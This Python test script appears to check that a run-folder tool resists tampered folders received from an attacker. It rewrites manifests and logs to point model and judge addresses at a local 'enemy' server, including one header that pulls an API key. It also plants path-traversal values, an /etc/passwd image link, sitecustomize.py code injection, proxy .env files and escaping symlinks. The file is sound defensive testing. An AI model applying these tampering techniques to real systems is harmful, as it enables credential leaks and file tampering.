"""Run folders as an enemy would send them, and every command that takes one: `python -m tests.attacks.received`.

An unfinished, judged run is made, copied, and each copy changed: addresses, judges, arguments, model roles, sandboxes
and task files in settings and logs, names that lead elsewhere or never end, links, variables. The user who receives it
has keys in the environment and no record of the run. A row a change: exit codes by command, requests that the enemy's
server and the run's own saw (0), files changed outside (0), tracebacks (0).
"""

import argparse
import json
import os
import shutil
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from inspect_ai._util.zipfile import zipfile_compress_kwargs

from forgetscope.io.records import file_sha256
from tests.attacks.commands import start
from tests.faults.server import Fault, FaultServer, Script

RUN = ["run", "in-context", "--limit", "2", "--scenarios", "dynamic_preference", "--max-retries", "0"]
RUN += ["--model", "openai-api/faulty/m", "--judge", "openai-api/grader/m", "--completeness", "0.2"]

COMMANDS = {
    "resume": ["resume", "{folder}"],
    "rejudge": ["rejudge", "{folder}"],
    "report": ["report", "{folder}"],
    "compare": ["compare", "{folder}", "{good}", "--out", "{out}/compared"],
    "merge": ["merge", "{folder}", "{good}", "--out", "{out}/merged"],
    "annotate": ["annotate", "sample", "{folder}", "--out", "{out}/annotated"],
}

Change = Callable[[Path, str], None]


def in_manifest(change: Callable[[dict[str, Any], str], object]) -> Change:
    """A change of `run.json`."""

    def apply(folder: Path, enemy: str) -> None:
        path = folder / "run.json"
        manifest = json.loads(path.read_text(encoding="utf-8"))
        change(manifest, enemy)
        path.write_text(json.dumps(manifest), encoding="utf-8")

    return apply


def in_log(entry: str, change: Callable[[dict[str, Any], str], object]) -> Change:
    """A change of a JSON entry of every log."""

    def apply(folder: Path, enemy: str) -> None:
        for path in (folder / "logs").glob("*.eval"):
            with zipfile.ZipFile(path) as archive:
                held = {name: archive.read(name) for name in archive.namelist()}
            for name in (name for name in held if name.startswith(entry)):
                content = json.loads(held[name])
                for one in content if isinstance(content, list) else [content]:
                    change(one, enemy)
                held[name] = json.dumps(content).encode()
            with zipfile.ZipFile(path, "w", **zipfile_compress_kwargs) as archive:
                for name, raw in held.items():
                    archive.writestr(name, raw)

    return apply


def _both(*changes: Change) -> Change:
    def apply(folder: Path, enemy: str) -> None:
        for change in changes:
            change(folder, enemy)

    return apply


def _link(name: str, target: str) -> Change:
    def apply(folder: Path, _: str) -> None:
        place = folder / name
        if place.is_dir():
            shutil.rmtree(place)
        else:
            place.unlink(missing_ok=True)
        place.symlink_to(folder.parent / "outside" / target)

    return apply


def _write(name: str, text: str) -> Change:
    return lambda folder, enemy: _write_in(folder / name, text.replace("ENEMY", enemy))


def _write_in(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def _role(enemy: str) -> dict[str, object]:
    return {"grader": {"model": "openai-api/grader/m", "base_url": enemy, "config": {}, "args": {"base_url": enemy}}}


_ESCAPES = "../../outside/escaped"
_TASK = "import pathlib; pathlib.Path('{}').write_text('ran')"

CHANGES: dict[str, Change] = {
    "nothing": lambda *_: None,
    "the model's address": in_manifest(lambda m, enemy: m["model"].update(base_url=enemy)),
    "the model's arguments": in_manifest(lambda m, enemy: m["model"].update(args={"base_url": enemy})),
    "a proxy as argument": in_manifest(lambda m, enemy: m["model"].update(args={"http_client": enemy})),
    "headers as argument": in_manifest(
        lambda m, enemy: m["model"].update(args={"default_headers": {"X": "env:FAULTY_API_KEY"}, "base_url": enemy})
    ),
    "a judge's address": in_manifest(lambda m, enemy: m["judges"][0].update(base_url=enemy)),
    "two judges": in_manifest(
        lambda m, enemy: m.update(judges=[*m["judges"], {"name": "openai-api/other/m", "base_url": enemy}])
    ),
    "a later judge": in_manifest(
        lambda m, enemy: m.update(judges=[], later_judges=[{"name": "openai-api/grader/m", "base_url": enemy}])
    ),
    "no id": in_manifest(lambda m, enemy: (m.pop("run_id"), m["model"].update(base_url=enemy))),
    "data at an address": in_manifest(lambda m, enemy: m["settings"].update(data=enemy)),
    "data above": in_manifest(lambda m, _: m["settings"].update(data="../../../etc")),
    "a benchmark's name": in_manifest(lambda m, _: m.update(benchmark=_ESCAPES)),
    "a shard of billions": in_manifest(lambda m, _: m.update(shard="1/99999999999")),
    "replies elsewhere": in_manifest(
        lambda m, _: m.update(replies={"file": _ESCAPES, "sha256": "", "rows": 1, "left_out": 0})
    ),
    "merged of elsewhere": in_manifest(lambda m, _: m.update(merged=[_ESCAPES] * 1000)),
    "a name of a megabyte": in_manifest(lambda m, _: m["model"].update(name="openai-api/faulty/" + "m" * 1_000_000)),
    "names of a megabyte": in_manifest(lambda m, _: m.update(planned={"c" * 1_000_000: 3}, notes=["n" * 1_000_000])),
    "a field nobody knows": in_manifest(lambda m, enemy: m.update(hooks=[enemy])),
    "prices": in_manifest(lambda m, _: m["limits"].update(prices={"*": {"input": -1, "output": 1e308}}, max_usd=1e308)),
    "a log's address": in_log("header", lambda h, enemy: h["eval"].update(model_base_url=enemy, model="openai/gpt-5")),
    "a log's roles": in_log("header", lambda h, enemy: h["eval"].update(model_roles=_role(enemy))),
    "a log's sandbox": in_log(
        "header", lambda h, _: h["eval"].update(sandbox={"type": "local", "config": _ESCAPES}, packages={"evil": "1"})
    ),
    "a log's task file": _both(
        _write("evil.py", _TASK.format("../outside/ran")),
        in_log("header", lambda h, _: h["eval"].update(task_file="evil.py", task="evil", solver="evil.py@evil")),
    ),
    "a log that calls itself unfinished": in_log(
        "header", lambda h, enemy: h.update(status="started", plan={"name": enemy, "steps": []})
    ),
    "a log's journal": in_log("_journal/start", lambda h, enemy: h["eval"].update(model_base_url=enemy)),
    "ids that lead elsewhere": in_log("samples/", lambda s, _: s.update(id=_ESCAPES)),
    "summaries that lead elsewhere": in_log("summaries", lambda s, _: s.update(id=_ESCAPES)),
    "metadata of a megabyte": in_log("samples/", lambda s, _: s["metadata"].update(item="i" * 1_000_000)),
    "links to pictures outside": in_log(
        "samples/",
        lambda s, _: s.update(input=[{"role": "user", "content": [{"type": "image", "image": "/etc/passwd"}]}]),
    ),
    "variables beside the manifest": _write(".env", "FAULTY_BASE_URL=ENEMY\nGRADER_BASE_URL=ENEMY\nHTTP_PROXY=ENEMY\n"),
    "variables beside the logs": _write("logs/.env", "FAULTY_BASE_URL=ENEMY\n"),
    "code beside the manifest": _both(
        _write("sitecustomize.py", _TASK.format("../outside/ran")),
        _write("inspect_ai.py", _TASK.format("../outside/ran")),
    ),
    "an eval set of its own": _write("logs/eval-set.json", '{"eval_set_id": "ENEMY", "tasks": [{"model": "ENEMY"}]}'),
    "a journal of megabytes": _write("replies.jsonl", '{"key": "' + "k" * 5_000_000 + '"}\n'),
    "judgements of nobody": _write(
        "judgements.jsonl", '{"line": "judged", "round": "../x", "sample": "..", "judgement": {}}'
    ),
    "a linked journal": _link("replies.jsonl", "mine"),
    "a linked page": _link("report.html", "mine"),
    "linked logs": _link("logs", "."),
}


def attack(work: Path, label: str, base: Path, good: Path, enemy: FaultServer, own: FaultServer) -> bool:
    """All commands on one changed folder, started in it; print its row."""
    place = work / "attack"
    (place / "outside").mkdir(parents=True)
    (place / "outside" / "mine").write_text("mine\n", encoding="utf-8")
    folder = place / "run"
    before = enemy.requests.total(), own.requests.total()
    codes, tracebacks = {}, 0
    outside = _digests(place / "outside")
    for verb, words in COMMANDS.items():
        shutil.rmtree(folder, ignore_errors=True)
        shutil.copytree(base, folder)
        CHANGES[label](folder, enemy.url)
        said = place / f"said-{verb}"
        filled = [word.format(folder=folder, good=good, out=place / "out") for word in words]
        environment = {
            "FORGETSCOPE_STATE": str(place / "state"),
            "FAULTY_API_KEY": "none",
            "GRADER_API_KEY": "none",
            "OTHER_API_KEY": "none",
        }
        codes[verb] = start(filled, said, environment, folder).wait(300)
        text = said.read_text(encoding="utf-8", errors="replace")
        if "Traceback (most recent call last)" in text:
            tracebacks += 1
            print(f"{label}, {verb}:\n{text[-1500:]}", file=sys.stderr)
    heard = enemy.requests.total() - before[0], own.requests.total() - before[1]
    changed = sum(_digests(place / "outside").get(path) != digest for path, digest in outside.items())
    changed += len(_digests(place / "outside")) - len(outside)
    shutil.rmtree(place)
    sound = heard == (0, 0) and not changed and not tracebacks
    told = ", ".join(f"{verb} {code}" for verb, code in codes.items())
    print(
        f"| {label} | {told} | {heard[0]} | {heard[1]} | {changed} | {tracebacks} |"
        + ("" if sound else " **WRONG** |"),
        flush=True,
    )
    return sound


def _digests(folder: Path) -> dict[Path, str]:
    return {path: file_sha256(path) for path in folder.rglob("*") if path.is_file()}


def main() -> None:
    """Attack and print."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--only", default="", help="changes with this in their name")
    only = parser.parse_args().only
    fails = [Script(Fault.INVALID_JSON), Script(Fault.NONE)]
    with tempfile.TemporaryDirectory(prefix="forgetscope-received-") as made, FaultServer() as enemy:
        work = Path(made)
        with FaultServer(fails) as own, FaultServer(answer=lambda _: '{"follows": true, "reason": "so"}') as judge:
            for name, more in (("base", ["--shard", "1/2"]), ("good", ["--shard", "2/2"])):
                words = [
                    *RUN,
                    *more,
                    "--model-base-url",
                    own.url,
                    "--judge-base-url",
                    judge.url,
                    "--out",
                    str(work / name),
                ]
                keys = {"FORGETSCOPE_STATE": str(work / "theirs"), "FAULTY_API_KEY": "none", "GRADER_API_KEY": "none"}
                if start(words, work / "said", keys).wait() == 2:
                    raise RuntimeError((work / "said").read_text(encoding="utf-8"))
            print("| changed | exit codes | sent to the enemy | to the run's own | changed outside | tracebacks |")
            print("|---|---|--:|--:|--:|--:|")
            fine = [attack(work, label, work / "base", work / "good", enemy, own) for label in CHANGES if only in label]
    print(f"{len(fine)} changes, {len(fine) * len(COMMANDS)} commands, {fine.count(False)} wrong")
    sys.exit(0 if all(fine) else 1)


if __name__ == "__main__":
    os.environ.pop("FAULTY_BASE_URL", None)
    main()
